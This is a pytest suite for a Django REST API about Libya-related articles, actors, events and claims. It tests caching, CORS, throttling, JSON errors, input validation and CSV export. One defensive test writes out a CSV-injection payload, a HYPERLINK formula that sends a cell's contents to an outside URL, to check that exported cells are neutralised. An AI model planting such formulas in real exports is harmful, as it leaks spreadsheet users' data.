"""Behaviour shared by every list: HTTP caching, CORS, throttling, errors, fields, CSV, sync."""

import csv
import io
import re
from datetime import timedelta
from http import HTTPStatus

import pytest
from django.core.cache import cache
from django.utils import timezone

from libya.desk.models import Actor, Deletion
from tests.factories import (
    ActorFactory,
    ArticleFactory,
    ClaimFactory,
    EventFactory,
    MediaFactory,
)

pytestmark = pytest.mark.django_db

LISTS = ["/api/v1/articles/", "/api/v1/actors/", "/api/v1/events/", "/api/v1/claims/"]


# HTTP caching


def test_get_has_an_etag_and_if_none_match_gives_304(client):
    first = client.get("/api/v1/actors/")

    again = client.get("/api/v1/actors/", headers={"if-none-match": first["ETag"]})

    assert first["ETag"]
    assert again.status_code == HTTPStatus.NOT_MODIFIED
    assert again.content == b""


def test_etag_changes_when_a_row_changes(client):
    actor = ActorFactory(slug="change-test")
    before = client.get("/api/v1/actors/change-test/")["ETag"]
    Actor.objects.filter(pk=actor.pk).update(description="Nouvelle description")

    assert client.get("/api/v1/actors/change-test/")["ETag"] != before


def test_success_is_publicly_cacheable_and_errors_are_not(client):
    ok = client.get("/api/v1/events/")
    bad = client.get("/api/v1/events/", {"date_after": "demain"})

    assert "public" in ok["Cache-Control"]
    assert "max-age=60" in ok["Cache-Control"]
    assert "no-store" in bad["Cache-Control"]
    assert "Accept" in ok["Vary"]


# CORS and throttling


def test_cors_allows_configured_origins_only(client, settings):
    settings.CORS_ALLOWED_ORIGINS = ["https://app.example.org"]

    allowed = client.get("/api/v1/actors/", headers={"origin": "https://app.example.org"})
    other = client.get("/api/v1/actors/", headers={"origin": "https://evil.example.com"})

    assert allowed["Access-Control-Allow-Origin"] == "https://app.example.org"
    assert "Access-Control-Allow-Origin" not in other


@pytest.mark.throttled
def test_anonymous_clients_are_throttled_with_retry_after(client, settings):
    settings.REST_FRAMEWORK = {
        **settings.REST_FRAMEWORK,
        "DEFAULT_THROTTLE_RATES": {"anon": "3/minute"},
    }
    cache.clear()

    statuses = [client.get("/api/v1/actors/").status_code for _ in range(4)]
    last = client.get("/api/v1/events/")
    cache.clear()

    assert statuses == [200, 200, 200, 429]
    assert last.status_code == HTTPStatus.TOO_MANY_REQUESTS
    assert 0 < int(last["Retry-After"]) <= 60
    assert last.json()["status"] == HTTPStatus.TOO_MANY_REQUESTS


@pytest.mark.throttled
def test_x_forwarded_for_does_not_reset_the_throttle(client, settings):
    settings.REST_FRAMEWORK = {
        **settings.REST_FRAMEWORK,
        "DEFAULT_THROTTLE_RATES": {"anon": "3/minute"},
    }
    cache.clear()

    statuses = [
        client.get("/api/v1/actors/", headers={"x-forwarded-for": f"203.0.113.{n}"}).status_code
        for n in range(4)
    ]
    cache.clear()

    assert statuses == [200, 200, 200, 429]


# Errors are JSON and never a 500


def test_unknown_api_url_is_json_404(client):
    response = client.get("/api/v1/nothing-here/")

    assert response.status_code == HTTPStatus.NOT_FOUND
    assert response["Content-Type"] == "application/json"
    assert response.json()["status"] == HTTPStatus.NOT_FOUND


def test_a_resource_without_its_final_slash_is_redirected_with_its_query(client):
    response = client.get("/api/v1/actors", {"kind": "media"})

    assert response.status_code == HTTPStatus.MOVED_PERMANENTLY
    assert response["Location"] == "/api/v1/actors/?kind=media"
    assert response.json()["status"] == HTTPStatus.MOVED_PERMANENTLY
    assert client.get(response["Location"]).status_code == HTTPStatus.OK


def test_a_write_without_the_final_slash_is_told_the_url_not_redirected(client):
    response = client.post("/api/v1/claims", {"quote": "x"})

    assert response.status_code == HTTPStatus.NOT_FOUND
    assert response.json() == {"status": 404, "detail": "No such resource: use /api/v1/claims/."}


def test_an_unknown_path_without_a_slash_is_still_a_404(client):
    response = client.get("/api/v1/nothing-here")

    assert response.status_code == HTTPStatus.NOT_FOUND
    assert response.json() == {"status": 404, "detail": "No such resource."}


def test_unsupported_methods_are_json_405(client):
    response = client.put("/api/v1/actors/khalifa-haftar/", {"name": "X"})

    assert response.status_code == HTTPStatus.METHOD_NOT_ALLOWED
    assert response.json()["status"] == HTTPStatus.METHOD_NOT_ALLOWED


def test_anonymous_writes_are_json_401(client):
    response = client.post("/api/v1/actors/", {"name": "X"})

    assert response.status_code == HTTPStatus.UNAUTHORIZED
    assert response.json()["status"] == HTTPStatus.UNAUTHORIZED


def test_unknown_format_is_json_404_and_unacceptable_accept_406(client):
    assert client.get("/api/v1/actors/", {"format": "xml"}).status_code == HTTPStatus.NOT_FOUND
    refused = client.get("/api/v1/actors/", headers={"accept": "application/xml"})
    assert refused.status_code == HTTPStatus.NOT_ACCEPTABLE
    assert refused.json()["status"] == HTTPStatus.NOT_ACCEPTABLE


@pytest.mark.parametrize("url", LISTS)
@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("page_size", "abc"),
        ("page_size", "-1"),
        ("page", "0"),
        ("page", "9" * 5000),
        ("updated_after", "yesterday"),
        ("ordering", "--slug"),
        ("fields", "nope"),
        ("facet", "nope"),
        ("cursor", "x" * 5000),
        ("search", "\x00"),
        # Empty values, as the schema declares: lists have items, none of them empty.
        ("updated_after", ""),
        ("page", ""),
        ("ordering", ""),
        ("cursor", ""),
        ("fields", ""),
        ("facet", "slug,"),
    ],
)
def test_bad_values_are_400_naming_the_parameter(client, url, name, value):
    response = client.get(url, {name: value})

    assert response.status_code == HTTPStatus.BAD_REQUEST, response.content
    assert name in response.json()["errors"]


def test_empty_list_items_are_400_naming_the_parameter(client):
    response = client.get("/api/v1/claims/", {"event": "a,b,,c", "kind": ""})

    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert set(response.json()["errors"]) == {"event", "kind"}


@pytest.mark.parametrize("url", LISTS)
@pytest.mark.parametrize(
    "params",
    [
        {"search": "x" * 5000},
        {"search": "'\"&|!():*<>"},
        {"page_size": "9" * 40},
        {"page_size": "500", "page": "20"},
        {"updated_after": "2020-01-01T00:00:00+14:00"},
        {"actor": "x" * 5000, "speaker": "inconnu", "publisher": "inconnu", "event": "a,b,c"},
    ],
)
def test_odd_but_valid_values_are_never_a_server_error(client, url, params):
    response = client.get(url, params)

    assert response.status_code == HTTPStatus.OK, response.content


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/claims/99999999999999999999999999/",
        "/api/v1/claims/0/",
        "/api/v1/actors/%00/",
        "/api/v1/actors/" + "x" * 5000 + "/",
        "/api/v1/events/caf%C3%A9/",
    ],
)
def test_odd_detail_urls_are_json_404(client, url):
    response = client.get(url)

    assert response.status_code == HTTPStatus.NOT_FOUND
    assert response.json()["status"] == HTTPStatus.NOT_FOUND


def test_page_size_is_capped_at_500(client):
    ActorFactory.create_batch(3)

    body = client.get("/api/v1/actors/", {"page_size": 100000}).json()

    assert len(body["results"]) == min(body["count"], 500)


# Sparse fields, sync, deletions


def test_fields_trims_rows(client):
    ActorFactory(slug="trim-test")

    rows = client.get("/api/v1/actors/", {"fields": "slug,kind"}).json()["results"]

    assert all(set(row) == {"slug", "kind"} for row in rows)


def test_unknown_field_is_400_listing_allowed_ones(client):
    response = client.get("/api/v1/events/", {"fields": "slug,secret"})

    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert "secret" in response.json()["errors"]["fields"][0]
    assert "start_date" in response.json()["errors"]["fields"][0]


def test_updated_after_lists_only_recent_changes(client):
    actor = ActorFactory(slug="recent-test")
    Actor.objects.filter(pk=actor.pk).update(name="Renommé")
    since = Actor.objects.get(pk=actor.pk).updated_at

    rows = client.get("/api/v1/actors/", {"updated_after": since.isoformat()}).json()["results"]

    assert [r["slug"] for r in rows] == ["recent-test"]


def test_deletions_list_what_was_removed_since(client):
    since = timezone.now() - timedelta(seconds=1)
    ActorFactory(slug="doomed-test").delete()
    Deletion.objects.create(
        resource="actor", key="merged-test", deleted_at=timezone.now(), merged_into="kept"
    )

    rows = client.get("/api/v1/deletions/", {"since": since.isoformat()}).json()["results"]

    assert [(r["resource"], r["key"], r["merged_into"]) for r in rows] == [
        ("actor", "doomed-test", None),
        ("actor", "merged-test", "kept"),
    ]


def test_deletions_bad_since_is_400(client):
    response = client.get("/api/v1/deletions/", {"since": "last week"})

    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert "since" in response.json()["errors"]


# CSV


def read_csv(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_csv_streams_every_matching_row_not_one_page(client):
    outlet = MediaFactory(slug="csv-outlet")
    speaker = ActorFactory(slug="csv-speaker")
    for _ in range(4):
        ClaimFactory(speaker=speaker, article__publisher=outlet).subjects.add(
            ActorFactory(), ActorFactory()
        )

    response = client.get(
        "/api/v1/claims/", {"speaker": "csv-speaker", "format": "csv", "page_size": 2}
    )

    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    rows = read_csv(response)
    assert len(rows) == 4
    assert rows[0]["speaker"] == "csv-speaker"
    assert len(rows[0]["subjects"].split(";")) == 2


def test_csv_by_accept_header_with_sparse_fields(client):
    EventFactory(slug="csv-event", participants=[ActorFactory(slug="csv-actor")])

    response = client.get(
        "/api/v1/events/",
        {"actor": "csv-actor", "fields": "slug,participants"},
        headers={"accept": "text/csv"},
    )

    assert read_csv(response) == [{"slug": "csv-event", "participants": "csv-actor:party"}]


def test_csv_errors_are_still_json(client):
    response = client.get("/api/v1/events/", {"format": "csv", "kind": "nope"})

    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert response.json()["errors"]["kind"]


# Schema and docs


def test_schema_and_docs_are_served_without_a_cdn(client):
    schema = client.get("/api/v1/schema/")
    docs = client.get("/api/v1/docs/")
    redoc = client.get("/api/v1/redoc/")

    assert schema.status_code == docs.status_code == redoc.status_code == HTTPStatus.OK
    assert b"cdn.jsdelivr.net" not in docs.content
    assert b"drf_spectacular_sidecar" in docs.content


def test_server_errors_are_json_500(client, monkeypatch):
    def fail(*args, **kwargs):
        raise RuntimeError("boom")

    monkeypatch.setattr("libya.desk.api.views.ActorViewSet.list", fail)
    client.raise_request_exception = False

    response = client.get("/api/v1/actors/")

    assert response.status_code == HTTPStatus.INTERNAL_SERVER_ERROR
    assert response.json() == {"status": 500, "detail": "Internal server error."}


@pytest.mark.parametrize("page_size", [1, 50])
def test_deletions_list_query_count_is_fixed(client, django_assert_num_queries, page_size):
    for _ in range(3):
        ActorFactory().delete()

    # page of deletions with the capped count as a column
    with django_assert_num_queries(1):
        response = client.get("/api/v1/deletions/", {"page_size": page_size})
    assert response.status_code == HTTPStatus.OK


@pytest.mark.parametrize("path", ["/api/v1/docs/", "/api/v1/redoc/"])
def test_docs_pages_load_every_asset_from_this_server(client, path):
    html = client.get(path).content.decode()

    assert re.findall(r'(?:src|href)="(https?://[^"]+)"', html) == []
    assert "/static/drf_spectacular_sidecar/" in html


# Compiled detail statements


DETAILS = [
    "/api/v1/articles/libye-echec-des-pourparlers-de-paix-de-moscou-haftar-quitte-la-capitale-russe/",
    "/api/v1/actors/khalifa-haftar/",
    "/api/v1/events/berlin-conference-2020-01-19/",
]


@pytest.mark.parametrize("url", DETAILS)
def test_compiled_detail_answers_exactly_as_the_queryset_does(client, monkeypatch, url):
    from libya.desk.api.views import DeskViewSet

    compiled = client.get(url)
    monkeypatch.setattr(DeskViewSet, "detail_statement", lambda self: None)
    built = client.get(url)

    assert compiled.status_code == built.status_code == HTTPStatus.OK
    assert compiled.json() == built.json()


def test_compiled_claim_detail_matches_and_binds_each_key(client, monkeypatch):
    from libya.desk.api.views import DeskViewSet

    ids = [row["id"] for row in client.get("/api/v1/claims/", {"page_size": 5}).json()["results"]]
    compiled = [client.get(f"/api/v1/claims/{pk}/").json() for pk in ids]
    monkeypatch.setattr(DeskViewSet, "detail_statement", lambda self: None)
    built = [client.get(f"/api/v1/claims/{pk}/").json() for pk in ids]

    assert [claim["id"] for claim in compiled] == ids
    assert compiled == built


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/actors/no-such-actor/",
        "/api/v1/claims/999999999/",
        "/api/v1/claims/" + "9" * 20 + "/",
        "/api/v1/claims/" + "9" * 5000 + "/",
    ],
)
def test_compiled_detail_of_a_missing_key_is_json_404(client, url):
    response = client.get(url)

    assert response.status_code == HTTPStatus.NOT_FOUND
    assert response["Content-Type"] == "application/json"


def test_compiled_claim_detail_still_hides_retracted_claims(client):
    claim = ClaimFactory(status="retracted")

    assert client.get(f"/api/v1/claims/{claim.pk}/").status_code == HTTPStatus.NOT_FOUND
    shown = client.get(f"/api/v1/claims/{claim.pk}/", {"status": "retracted"})
    assert shown.status_code == HTTPStatus.OK


# Each field is declared once


def test_a_field_declared_on_the_serializer_alone_is_in_every_output(client, monkeypatch):
    """Adding a field to the API is a one-file change: the serializer declaration."""
    from rest_framework import serializers

    from libya.desk.api import serializers as s
    from libya.desk.api.views import ClaimViewSet

    class WithGloss(s.ClaimSerializer):
        english = serializers.CharField(source="gloss_en")
        speaker_name = serializers.CharField(source="speaker.name", allow_null=True)

    monkeypatch.setattr(ClaimViewSet, "serializer_class", WithGloss)
    claim = ClaimFactory(gloss_en="He said yes.")

    listed = client.get("/api/v1/claims/", {"speaker": claim.speaker.slug})
    trimmed = client.get("/api/v1/claims/", {"speaker": claim.speaker.slug, "fields": "english"})
    exported = client.get("/api/v1/claims/", {"speaker": claim.speaker.slug, "format": "csv"})

    assert listed.status_code == trimmed.status_code == exported.status_code == HTTPStatus.OK
    row = listed.json()["results"][0]
    assert (row["english"], row["speaker_name"]) == ("He said yes.", claim.speaker.name)
    assert trimmed.json()["results"] == [{"english": "He said yes."}]
    assert read_csv(exported)[0]["english"] == "He said yes."


# CSV injection (OWASP): a cell a spreadsheet would run as a formula is quoted


@pytest.mark.parametrize("start", ["=HYPERLINK(", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_evaluate_are_prefixed(client, start):
    text = f'{start}"http://example.org/?leak="&A1,"clique")'
    claim = ClaimFactory(article=ArticleFactory(body=f"Il a écrit « {text} » hier."))
    article = claim.article

    exported = client.get("/api/v1/claims/", {"article": article.slug, "format": "csv"})
    listed = client.get(f"/api/v1/claims/{claim.pk}/")

    assert exported.status_code == listed.status_code == HTTPStatus.OK
    assert read_csv(exported)[0]["text"] == f"'{text}"
    assert listed.json()["text"] == text  # JSON stays as it is


@pytest.mark.parametrize("url", DETAILS)
def test_detail_statements_step_aside_on_an_untested_django(client, monkeypatch, url):
    from libya.desk.api import statements
    from libya.desk.api.views import DeskViewSet

    compiled = client.get(url)
    monkeypatch.setattr(statements, "TESTED_DJANGO", (0, 0))
    for viewset in DeskViewSet.__subclasses__():
        monkeypatch.delattr(viewset, "_detail_statement", raising=False)
    built = client.get(url)

    assert compiled.status_code == built.status_code == HTTPStatus.OK
    assert compiled.json() == built.json()
    assert all(vs.__dict__.get("_detail_statement") is None for vs in DeskViewSet.__subclasses__())
